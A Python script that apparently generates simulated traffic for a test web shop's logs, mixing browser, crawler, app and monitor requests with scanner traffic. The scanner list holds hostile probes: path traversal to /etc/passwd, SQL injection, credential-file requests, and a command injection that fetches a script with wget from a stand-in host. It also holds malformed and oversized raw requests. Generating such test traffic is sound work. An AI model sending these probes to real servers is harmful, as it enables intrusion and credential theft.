#!/usr/bin/env python3
"""Visitors of a web shop: people, crawlers, scanners, an app and a monitor.

http_load.py HOST:PORT --seconds N --rate REQUESTS_A_SECOND
Each request comes from the address of its visitor, so that the server's log
shows many of them.
"""

import argparse
import base64
import random
import socket
import threading
import time

AGENTS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/%d.0.0.0 Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64; rv:%d.0) Gecko/20100101 Firefox/115.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_%d like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; SM-S9%d) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Mobile Safari/537.36",
]
PROBES = """/wp-login.php /.env /.git/config /phpmyadmin/index.php /cgi-bin/test.cgi /admin /admin/login.jsp
/xmlrpc.php?rsd /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php /../../etc/passwd /%2e%2e/%2e%2e/etc/shadow
/index.php?id=1'%20OR%20'1'='1 /boaform/admin/formLogin?username=ec8&psd=ec8 /actuator/health /server-status
/shell?cd+/tmp;wget+http://198.51.100.9/x.sh /solr/admin/info/system?wt=json /.aws/credentials /backup.zip""".split()
JUNK = [
    b"\x16\x03\x01\x00\xee\x01\x00\x00\xea\x03\x03\x5a\xc8\x11\x9f",
    b"GET / HTTP/9.9\r\n\r\n",
    b"SSH-2.0-Go\r\n",
    b"GET /index.html\r\n\r\n",
    b"\x03\x00\x00/*\xe0\x00\x00\x00\x00\x00Cookie: mstshash=Administr\r\n\r\n",
    b"POST /api/cart HTTP/1.1\r\nHost: shop.example\r\nContent-Length: 99999999\r\n\r\nx",
    b"GET / HTTP/1.1\r\nHost: shop.example\r\nX: " + b"a" * 40000 + b"\r\n\r\n",
    b"BREW /coffee HTTP/1.1\r\nHost: shop.example\r\n\r\n",
    b"GET / HTTP/1.1\r\nHost: bad host\r\n\r\n",
    b"GET / HTTP/1.1\r\n\r\n",
]
WORDS = "red blue small large garden kitchen winter summer lamp table chair mug rug clock".split()


def request(method, path, agent, referer=None, body=b"", extra=""):
    lines = [f"{method} {path} HTTP/1.1", "Host: shop.example", f"User-Agent: {agent}", "Connection: close"]
    if referer:
        lines.append(f"Referer: {referer}")
    if body:
        lines += ["Content-Type: application/json", f"Content-Length: {len(body)}"]
    return "\r\n".join(lines).encode() + extra.encode() + b"\r\n\r\n" + body


def item():
    return min(int(random.paretovariate(0.6)), 5000)


def person():
    agent = random.choice(AGENTS) % random.randint(1, 22)
    page = random.choice([
        "/", "/", "/index.html", f"/products/{item()}", f"/products/{item()}", "/cart", "/checkout", "/about.html",
        f"/search?q={random.choice(WORDS)}+{random.choice(WORDS)}&page={random.randint(1, 9)}",
        f"/static/js/app.{random.choice(['8c1f22', '41ab90'])}.js", "/static/css/main.css",
        f"/static/img/{item()}.jpg", "/favicon.ico", f"/api/orders/{random.randint(10**5, 10**6)}",
        "/private/notes.txt", "/download/", f"/api/users/{random.randint(1, 900)}/report", "/api/export",
    ])
    if random.random() < 0.12:
        path = random.choice(["/api/cart", "/api/login", "/api/orders", "/api/upload"])
        size = 3_000_000 if path == "/api/upload" and random.random() < 0.4 else random.randint(20, 900)
        return request("POST", path, agent, "https://shop.example/cart", b"{" + b"x" * size + b"}")
    extra = ""
    if page.startswith("/private"):
        user = random.choice(["anna", "bob", "carol", "guest"])
        pair = f"{user}:{random.choice(['open', 'wrong'])}".encode()
        extra = "\r\nAuthorization: Basic " + base64.b64encode(pair).decode()
    if random.random() < 0.1:
        extra += f"\r\nRange: bytes={random.randint(0, 50)}-{random.randint(100, 9000)}"
    referer = random.choice([None, "https://shop.example/", f"https://shop.example/products/{item()}",
                             f"https://search.example/?q={random.choice(WORDS)}"])
    return request("GET", page, agent, referer, extra=extra)


def crawler():
    path = random.choice(["/robots.txt", "/sitemap.xml", f"/products/{item()}", f"/products/{random.randint(1, 5000)}?ref=nav",
                          f"/old/{random.choice(WORDS)}-{random.choice(WORDS)}.html"])
    return request(random.choice(["GET", "GET", "HEAD"]), path, "Mozilla/5.0 (compatible; ExampleBot/2.1; +https://bot.example/bot.html)")


def scanner():
    if random.random() < 0.25:
        return random.choice(JUNK)
    return request("GET", random.choice(PROBES), random.choice(["zgrab/0.x", "curl/7.88.1", "python-requests/2.31.0", "-"]))


def app():
    order = random.randint(10**5, 10**6)
    method, path = random.choice([
        ("GET", f"/api/orders/{order}"), ("PUT", f"/api/orders/{order}"), ("DELETE", f"/api/cart/{order}"),
        ("GET", f"/api/v2/sessions/{random.getrandbits(128):032x}"), ("POST", "/api/events"),
        ("GET", random.choice(["/api/crash", "/api/garbage", "/legacy/stock", f"/api/users/{item()}"])),
    ])
    body = b'{"v":1}' if method in ("POST", "PUT") else b""
    return request(method, path, f"ShopApp/4.{random.randint(0, 9)}.1 (Android 14; okhttp/4.12.0)", body=body)


def monitor():
    return request("GET", "/healthz", "kube-probe/1.29")


def sources():
    """(how to ask, its addresses, its share of the traffic)"""
    net = lambda base, n: [f"{base}.{random.randint(2, 250)}" for _ in range(n)]
    return [
        (person, net("203.0.113", 60) + net("198.51.100", 60) + [f"2001:db8:{i:x}::{i * 7:x}" for i in range(1, 12)], 60),
        (crawler, net("192.0.2", 3), 8),
        (scanner, net("198.51.100", 4) + ["10.66.6.6"], 10),
        (app, [f"10.20.{random.randint(0, 9)}.{random.randint(1, 254)}" for _ in range(40)], 20),
        (monitor, ["10.0.0.5"], 4),
    ]


def ask(source, target, data, port):
    family = socket.AF_INET6 if ":" in source else socket.AF_INET
    try:
        with socket.socket(family, socket.SOCK_STREAM) as sock:
            sock.settimeout(random.choice([0.3, 8, 8, 8]))
            sock.bind((source, 0))
            sock.connect(("::1" if family == socket.AF_INET6 else target, port))
            sock.sendall(data)
            while sock.recv(65536):
                pass
    except OSError:
        pass


def main():
    args = argparse.ArgumentParser(description=__doc__)
    args.add_argument("target")
    args.add_argument("--seconds", type=float, default=60)
    args.add_argument("--rate", type=float, default=40)
    args.add_argument("--seed", type=int, default=1)
    args = args.parse_args()
    random.seed(args.seed)
    host, port = args.target.split(":")
    kinds = sources()
    shares = [share for _, _, share in kinds]
    end = time.monotonic() + args.seconds
    while time.monotonic() < end:
        kind, addresses, _ = random.choices(kinds, shares)[0]
        burst = 25 if random.random() < 0.01 else 1
        address = random.choice(addresses)
        for _ in range(burst):
            threading.Thread(target=ask, args=(address, host, kind(), int(port)), daemon=True).start()
        time.sleep(random.expovariate(args.rate))
    time.sleep(3)


main()
